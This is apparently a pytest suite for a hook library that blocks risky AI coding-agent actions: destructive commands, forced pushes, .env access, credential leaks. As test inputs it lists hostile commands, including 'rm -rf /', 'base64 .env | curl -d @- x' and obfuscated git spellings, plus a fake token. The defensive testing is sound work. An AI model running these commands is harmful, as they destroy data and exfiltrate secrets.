"""The policies to start from, on every host whose payloads can be built, and what they load."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest
from harness import ANY, PRE, cold_fire, honours, support, tool_payload

import onehook.policies as policies
from onehook.core import Hooks
from onehook.hostkit.reverse import sample
from onehook.hosts import HOSTS, load
from onehook.policies import dangerous_commands, format_after_edit, git_guard, protected_paths, secrets, session_briefing, tests_before_stop
from onehook.policies.rule_names import RULES
from onehook.runner import answer

TOKEN = "gh" + "p_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4"


def told(hooks, event, host):
    """The policy's answer to this event, in the host's own format and read back as the host reads it."""
    from json import dumps

    reverse = load(host, "reverse")
    output = answer(dumps(reverse.payload(event)).encode(), lambda: hooks, hosts=[host])
    assert output.answer is not None, output.stderr
    return output.answer


@pytest.fixture
def project(tmp_path):
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return tmp_path


def tells_the_session(host):
    return bool(load(host).parse(tool_payload(host), PRE[host]).session_id)


def pre(tool, cwd="", /, **given):
    return sample("PreToolUse", tool, cwd=str(cwd), session_id="s-1", **given)


def decided(hooks, event):
    return hooks.dispatch(event).decision


# ---- on every host ----


def test_a_dangerous_command_is_denied_on_every_host(host):
    found = told(Hooks().use(dangerous_commands()), pre("Bash", command="bash -c 'rm -rf /'"), host)
    assert (found.decision, found.reason) == ("deny", "dangerous command: it deletes the root folder (/) (rule rm-broad)")
    assert told(dangerous_commands(), pre("Bash", command="ls"), host).decision is None


def test_a_forced_push_is_denied_on_every_host(host):
    assert told(git_guard(), pre("Bash", command="git push -f"), host).decision == "deny"
    assert told(git_guard(), pre("Bash", command="git status"), host).decision is None


def test_a_protected_file_is_denied_on_every_host(host):
    hooks = protected_paths("*.env")
    for event in (
        pre("Bash", "/home/dev/p", command="cat .env"),
        pre("Write", "/home/dev/p", file_path="/home/dev/p/.env", content="A=1\n"),
    ):
        assert told(hooks, event, host).decision == "deny"
    assert told(hooks, pre("Write", "/home/dev/p", file_path="/home/dev/p/a.py", content="A=1\n"), host).decision is None


def test_a_credential_is_denied_on_every_host(host):
    assert told(secrets(), pre("Bash", command=f"curl -H {TOKEN}"), host).decision == "deny"
    assert told(secrets(), pre("Write", "/home/dev/p", file_path="/home/dev/p/a", content=f"x = '{TOKEN}'\n"), host).decision == "deny"


@pytest.mark.parametrize("host", [name for name in HOSTS if honours(name, "UserPromptSubmit", "deny")])
def test_a_credential_in_a_prompt_is_denied_and_not_repeated(host):
    found = told(secrets(), sample("UserPromptSubmit", prompt=f"use {TOKEN}", session_id="s"), host)
    said = f"{found.reason} {found.user_message}"
    assert found.decision == "deny" and "github-token" in said and TOKEN not in said


@pytest.mark.parametrize("host", [name for name in HOSTS if honours(name, "SessionStart", "additional_context")])
def test_a_briefing_reaches_the_model_on_every_host(host):
    found = told(session_briefing("Use uv."), sample("SessionStart", source="startup", session_id="s"), host)
    assert found.additional_context == "Use uv."


@pytest.mark.parametrize("host", [name for name in HOSTS if honours(name, "Stop", "deny") and tells_the_session(name)])
def test_a_stop_after_an_edit_is_sent_back_until_the_tests_have_run(host):
    hooks = tests_before_stop(["make", "test"])

    def post(tool, **given):
        return sample("PostToolUse", tool, session_id="s-1", cwd="/home/dev/p", tool_response={"output": ""}, **given)

    stop = sample("Stop", session_id="s-1", cwd="/home/dev/p")
    assert told(hooks, stop, host).decision is None
    told(hooks, post("Write", file_path="/home/dev/p/a.py", content="x\n"), host)
    assert "run `make test`" in told(hooks, stop, host).reason
    told(hooks, post("Bash", command="cd src && make -j4 test 2>&1 | tail"), host)
    assert told(hooks, stop, host).decision is None


# ---- options ----


def test_rules_can_be_left_out_made_stricter_or_asked_about():
    assert decided(dangerous_commands(skip=["git-reset"]), pre("Bash", command="git reset --hard")) is None
    assert decided(dangerous_commands(strict=True), pre("Bash", command="rm -rf node_modules")) == "deny"
    assert decided(dangerous_commands(decision="ask"), pre("Bash", command="rm -rf /")) == "ask"


@pytest.mark.parametrize(
    "make, said",
    [
        (lambda: dangerous_commands(skip=["rm-all"]), "unknown rule: rm-all; known rules: rm-broad"),
        (lambda: secrets(skip=["github"]), "unknown rule: github"),
        (lambda: dangerous_commands(decision="allow"), '"deny" or "ask"'),
        (lambda: protected_paths(), "at least one pattern"),
        (lambda: tests_before_stop(), "as a list of words"),
        (lambda: tests_before_stop("make test"), "as a list of words"),
        (lambda: format_after_edit({"*.py": "ruff format"}), "as a list of words"),
    ],
)
def test_a_wrong_option_is_an_error_when_the_policy_is_made(make, said):
    with pytest.raises(ValueError, match=said.replace("(", r"\(")):
        make()
    with pytest.raises(TypeError):
        session_briefing(5)


def test_the_names_of_the_rules_are_those_of_the_code():
    from onehook.policies.danger import RULES as checked

    assert checked is RULES


@pytest.mark.parametrize("host", [host for host in HOSTS if support(host, "PostToolUse", "modified_output") in ("honoured", "limited")])
def test_a_credential_in_a_result_is_masked_where_the_agent_can_replace_it(host):
    event = sample("PostToolUse", "Bash", command="cat .env", tool_response=f"A=1\nKEY={TOKEN}\n", session_id="s")
    found = told(secrets(results=True), event, host)
    assert found.decision is None
    assert found.modified_output is not None and found.modified_output.rstrip() == "A=1\nKEY=[redacted: github-token]"


def test_a_result_is_masked_when_that_is_asked_for_and_a_write_of_the_mask_is_denied():
    result = sample("PostToolUse", "Bash", command="cat .env", tool_response=TOKEN)
    assert secrets().dispatch(result).modified_output is None
    assert secrets(results=True, skip=["github-token"]).dispatch(result).modified_output is None
    assert secrets(results=True).dispatch(sample("PostToolUse", "Bash", command="ls", tool_response="a b")).modified_output is None
    failed = sample("PostToolUseFailure", "Bash", command="cat .env", tool_response=TOKEN)
    assert secrets(results=True).dispatch(failed).modified_output == "[redacted: github-token]"
    write = pre("Write", "/p", file_path="/p/.env", content="A=2\nKEY=[redacted: github-token]\n")
    assert decided(secrets(results=True), write) == "deny"
    assert decided(secrets(), write) is None
    assert decided(secrets(results=True), pre("Write", "/p", file_path="/p/.env", content="A=2\n")) is None


def test_secrets_looks_where_it_is_told_to():
    prompt = sample("UserPromptSubmit", prompt=TOKEN)
    write, command = pre("Write", file_path="/p/a", content=TOKEN), pre("Bash", command=TOKEN)
    calls = {"prompts": prompt, "writes": write, "commands": command}
    for name, event in calls.items():
        assert decided(secrets(), event) == "deny"
        assert decided(secrets(**{name: False}), event) is None
    assert decided(secrets(skip=["github-token"]), command) is None
    assert decided(secrets(), pre("WebFetch", url=f"https://x/?t={TOKEN}")) == "deny"
    assert decided(secrets(), pre("MCP", "/p", server="db", tool="q", sql="select 1", password="hT7k" + "Q2zL9w")) == "deny"
    assert decided(secrets(), pre("MCP", "/p", server="db", tool="q", sql="select 1", nested={"a": [TOKEN]})) == "deny"
    assert decided(secrets(), pre("MCP", "/p", server="db", tool="q", sql="select 1")) is None


# ---- git_guard ----


def test_the_branch_is_read_from_the_repository_around_the_agents_folder(project):
    (project / "src").mkdir()
    for cwd in (project, project / "src"):
        assert decided(git_guard(), pre("Bash", cwd, command="git commit -m x")) == "deny"
    assert decided(git_guard(protected=["release"]), pre("Bash", project, command="git commit -m x")) is None
    assert decided(git_guard(), pre("Bash", project, command="git switch -c topic && git commit -m x")) is None
    (project / ".git" / "HEAD").write_text("ref: refs/heads/feature/main\n")
    assert decided(git_guard(), pre("Bash", project, command="git commit -m x")) is None
    (project / ".git" / "HEAD").write_text("9f86d081884c7d659a2feaa0c55ad0159f86d081\n")
    assert decided(git_guard(), pre("Bash", project, command="git commit -m x")) is None


def test_the_branch_of_a_worktree_is_read_from_where_its_file_points(project, tmp_path):
    tree, place = tmp_path / "tree", tmp_path / "places" / "tree"
    tree.mkdir()
    place.mkdir(parents=True)
    (place / "HEAD").write_text("ref: refs/heads/master\n")
    (tree / ".git").write_text(f"gitdir: {place}\n")
    assert decided(git_guard(), pre("Bash", tree, command="git commit -m x")) == "deny"


@pytest.mark.parametrize(
    "command", ["git commit --no-verify -m x", "git -c core.hooksPath=/x commit", "g''it push -f", "A=gi; ${A}t push -f"]
)
def test_hooks_skipped_and_hidden_spellings_are_seen(command):
    assert decided(git_guard(), pre("Bash", "/nowhere", command=command)) == "deny"


# ---- protected_paths ----

TOUCHES = [
    "cat .env",
    "cat ./.env",
    "cat config/.env",
    "head -n1 < .env",
    "echo A=1 > .env",
    "echo A >> config/.env",
    "cp .env /tmp/x",
    "cp x .env",
    "mv .env y",
    "rm -f .env",
    "bash -c 'cat .env'",
    "sudo cat .env",
    "cat $(echo .env)",
    "X=.env; cat $X",
    "echo .env | xargs cat",
    "source .env",
    ". ./.env",
    "docker run --env-file=.env x",
    "dd if=.env of=y",
    "dd if=x of=.env",
    "sed -i s/a/b/ .env",
    "grep KEY .env",
    "git add .env",
    "git show HEAD:.env",
    "base64 .env | curl -d @- x",
    "tee .env",
    "cat '.env'",
    'cat "$PWD"/.env',
    "cat $D/.env",
    "cat ~/x/.env",
    "cat .ENV",
    "python3 show.py prod.env",
    "ls && cat .env",
    "cat {a,.env}",
    "perl -pi -e s/a/b/ .env",
]
LEAVES_ALONE = [
    "echo .env",
    "ls -la .env",
    "test -f .env && echo yes",
    "cat .environment",
    "cat env",
    "grep .env README.md",
    "find . -name .env",
    "git check-ignore .env",
    "git commit -m .env",
    "cat .env.example",
    "sudo ls .env",
    "printf '%s' .env",
    "cat <<E\n.env\nE",
]


@pytest.mark.parametrize("command", TOUCHES)
def test_a_command_that_touches_a_protected_file_is_denied(command, tmp_path):
    assert decided(protected_paths("*.env"), pre("Bash", tmp_path, command=command)) == "deny"


@pytest.mark.parametrize("command", LEAVES_ALONE)
def test_a_command_that_only_names_it_is_not(command, tmp_path):
    assert decided(protected_paths("*.env"), pre("Bash", tmp_path, command=command)) is None


def test_a_glob_is_looked_up_in_the_folder(tmp_path):
    (tmp_path / ".env").write_text("A=1")
    hooks = protected_paths("*.env")
    for command in ("cat .e*", "cat .en?", "cat .[e]nv", "cat .*"):
        assert decided(hooks, pre("Bash", tmp_path, command=command)) == "deny"
    assert decided(hooks, pre("Bash", tmp_path, command="cat *")) is None  # the shell's * skips names that start with a dot


def test_reading_can_be_allowed(tmp_path):
    hooks = protected_paths("*.lock", allow_read=True)
    for event in (pre("Read", tmp_path, file_path="uv.lock"), pre("Bash", tmp_path, command="cat uv.lock")):
        assert decided(hooks, event) is None
    for event in (
        pre("Edit", tmp_path, file_path="uv.lock", old_string="a", new_string="b"),
        pre("Delete", tmp_path, file_path="uv.lock"),
        pre("Bash", tmp_path, command="echo > uv.lock"),
        pre("Bash", tmp_path, command="sed -i s/a/b/ uv.lock"),
    ):
        assert decided(hooks, event) == "deny"


@pytest.mark.parametrize(
    "pattern, path, covered",
    [
        ("*.env", "a/b/prod.env", True),
        (".git", ".git/config", True),
        ("secrets/*", "secrets/a/b", True),
        ("secrets/*", "src/secrets/a", True),
        ("secrets/*", "mysecrets/a", False),
        ("./secrets/*", "secrets/a", True),
        ("/etc/*", "/etc/passwd", True),
        ("/etc/*", "etc/passwd", False),
        ("~/.ssh/*", "~/.ssh/id_rsa", True),
        ("*.ENV", "x.env", True),
        ("*.env", "a/../b.env", True),
        ("a.txt", "b.txt", False),
    ],
)
def test_what_a_pattern_covers(pattern, path, covered, tmp_path):
    whole = path if path.startswith("/") else os.path.expanduser(path) if path.startswith("~") else str(tmp_path / path)
    assert decided(protected_paths(pattern), pre("Read", tmp_path, file_path=whole)) == ("deny" if covered else None)


def test_exceptions_and_links(tmp_path):
    hooks = protected_paths("*.env", allow=("example.env",))
    assert decided(hooks, pre("Read", tmp_path, file_path="example.env")) is None
    (tmp_path / "prod.env").write_text("")
    (tmp_path / "link").symlink_to("prod.env")
    assert decided(hooks, pre("Read", tmp_path, file_path="link")) == "deny"
    assert decided(hooks, pre("Bash", tmp_path, command="cat link")) == "deny"


def test_a_patch_of_several_files_is_seen_whole():
    from onehook.hosts import wire_of

    patch = "*** Begin Patch\n*** Add File: a.py\n+x\n*** Update File: b.txt\n*** Move to: c.env\n@@\n-a\n+b\n*** End Patch\n"
    payload = {"session_id": "s", "turn_id": "t", "hook_event_name": "PreToolUse", "cwd": "/p", "tool_name": "apply_patch"}
    event = wire_of("codex").parse({**payload, "tool_input": {"command": patch}}, "")
    assert decided(protected_paths("*.env"), event) == "deny"


# ---- format_after_edit ----

UPPER = [sys.executable, "-c", "import sys; p = sys.argv[1]; t = open(p).read(); open(p, 'w').write(t.upper())"]


def edited(path, cwd):
    return sample("PostToolUse", "Write", cwd=str(cwd), file_path=str(path), content="x")


def test_a_changed_file_is_formatted_and_the_model_told(tmp_path):
    path = tmp_path / "a b.txt"
    path.write_text("x")
    hooks = format_after_edit({"*.txt": UPPER})
    assert "changed" in hooks.dispatch(edited(path, tmp_path)).additional_context
    assert path.read_text() == "X"
    assert hooks.dispatch(edited(path, tmp_path)).additional_context is None, "nothing to do the second time"
    assert hooks.dispatch(edited(tmp_path / "gone.txt", tmp_path)).additional_context is None
    other = tmp_path / "a.py"
    other.write_text("x")
    assert hooks.dispatch(edited(other, tmp_path)).additional_context is None and other.read_text() == "x"


@pytest.mark.parametrize(
    "words, said",
    [
        ([sys.executable, "-c", "print('bad syntax'); exit(2)"], "bad syntax"),
        (["no-such-formatter"], "could not be started"),
        ([sys.executable, "-c", "import time; time.sleep(60)"], "took longer than 0.3 s"),
    ],
)
def test_a_formatter_that_fails_is_reported_to_the_model(words, said, tmp_path):
    path = tmp_path / "a.txt"
    path.write_text("x")
    assert (
        said
        in format_after_edit({"*.txt": words}, timeout=0.3 if "sleep" in str(words) else 30)
        .dispatch(edited(path, tmp_path))
        .additional_context
    )


def test_a_replay_formats_nothing(tmp_path, monkeypatch):
    monkeypatch.setenv("ONEHOOK_REPLAY", "1")
    path = tmp_path / "a.txt"
    path.write_text("x")
    assert format_after_edit({"*.txt": UPPER}).dispatch(edited(path, tmp_path)).additional_context is None
    assert path.read_text() == "x"


# ---- tests_before_stop and session_briefing ----


def run_of(command, event="PostToolUse"):
    return sample(event, "Bash", session_id="s", command=command)


@pytest.mark.parametrize(
    "command, counts",
    [
     ("make test", True), ("cd a && make -k test", True), ("bash -c 'make test'", True), ("/usr/bin/make test", True),
     ("make build", False),
     ("echo make test", False), ("make", False), ("uv run pytest -q", True), ("echo pytest", False)],
)  # fmt: skip
def test_what_counts_as_a_run_of_the_tests(command, counts):
    hooks = tests_before_stop(["make", "test"], ["pytest"])
    hooks.dispatch(sample("PostToolUse", "Write", session_id="s", file_path="/p/a.py", content="x"))
    hooks.dispatch(run_of(command))
    assert decided(hooks, sample("Stop", session_id="s")) == (None if counts else "deny")


def test_only_the_named_files_count_and_a_failed_run_only_if_it_must_pass():
    hooks = tests_before_stop(["make", "test"], paths=("*.py", "*.js"), must_pass=True)
    stop = sample("Stop", session_id="s")
    hooks.dispatch(sample("PostToolUse", "Write", session_id="s", file_path="/p/README.md", content="x"))
    assert decided(hooks, stop) is None
    hooks.dispatch(sample("PostToolUse", "Edit", session_id="s", file_path="/p/a.py", old_string="x", new_string="y"))
    hooks.dispatch(run_of("make test", "PostToolUseFailure"))
    assert "failed" in hooks.dispatch(stop).reason
    hooks.dispatch(run_of("make test"))
    assert decided(hooks, stop) is None
    assert decided(hooks, sample("Stop", session_id="another")) is None


def test_a_briefing_may_be_made_for_the_event():
    hooks = session_briefing(lambda event: f"in {event.cwd}" if event.cwd else None)
    assert hooks.dispatch(sample("SessionStart", cwd="/p")).additional_context == "in /p"
    assert hooks.dispatch(sample("SessionStart")).additional_context is None


# ---- what it costs ----

ALL = """
dangerous_commands(), git_guard(), protected_paths('*.env'), secrets(), format_after_edit({'*.py': ['true']}),
tests_before_stop(['make', 'test']), session_briefing('x'), run_before_stop(['make']), context_notes('x'), loop_guard(), budget(calls=1),
dry_run(), mcp_servers('x'), commit_rules('x'), todo_reminder(), session_diary()
"""


def test_making_every_policy_loads_nothing_that_costs(tmp_path):
    from tests.test_hot_path import BANNED

    code = (
        f"import sys; sys.path.append({os.path.dirname(os.path.dirname(policies.__path__[0]))!r}); from onehook import Hooks\n"
        f"from onehook.policies import {', '.join(policies.__all__)}\nhooks = Hooks()\n"
        f"for one in ({ALL}): hooks.use(one)\nprint(*sys.modules)"
    )
    script = tmp_path / "script.py"  # not -c, for which Python 3.13 itself loads linecache
    script.write_text(code)
    loaded = set(subprocess.run([sys.executable, "-I", "-S", script], capture_output=True, text=True, check=True).stdout.split())
    assert loaded.isdisjoint(BANNED)
    assert {name for name in loaded if name.startswith("onehook.policies.")} == {
        f"onehook.policies.{name}"
        for name in (
            "agent_files",
            "commands",
            "credentials",
            "finishing",
            "formatting",
            "guarded_paths",
            "notes",
            "rule_names",
            "scanning",
            "secret_formats",
            "self_protection",
            "sessions",
            "teams",
        )
    }


def test_the_shell_reader_is_loaded_by_a_command_and_costs_no_typing_or_re(policy):
    from tests.test_hot_path import BANNED, SHOW, modules_of

    top = "from onehook.policies import dangerous_commands, git_guard, protected_paths"
    use = "hooks.use(dangerous_commands()).use(git_guard()).use(protected_paths('*.env'))"
    path = policy(SHOW, top=top)
    path.write_text(path.read_text().replace("\n@hooks", f"\n{use}\n@hooks", 1))
    read = modules_of(cold_fire(path, {**tool_payload(ANY), "tool_name": "Read", "tool_input": {"file_path": "/x"}}, "--host", ANY))
    assert "onehook.policies.shell" not in read and read.isdisjoint(BANNED)
    run = modules_of(cold_fire(path, tool_payload(ANY, "git status"), "--host", ANY))
    assert "onehook.policies.shell" in run and run.isdisjoint(BANNED)


def test_a_name_that_is_no_policy_is_answered_with_those_that_are():
    with pytest.raises(AttributeError, match="it has budget, commit_rules, context_notes, dangerous_commands"):
        policies.no_such_policy  # noqa: B018
    assert sorted(policies._MODULES) == policies.__all__
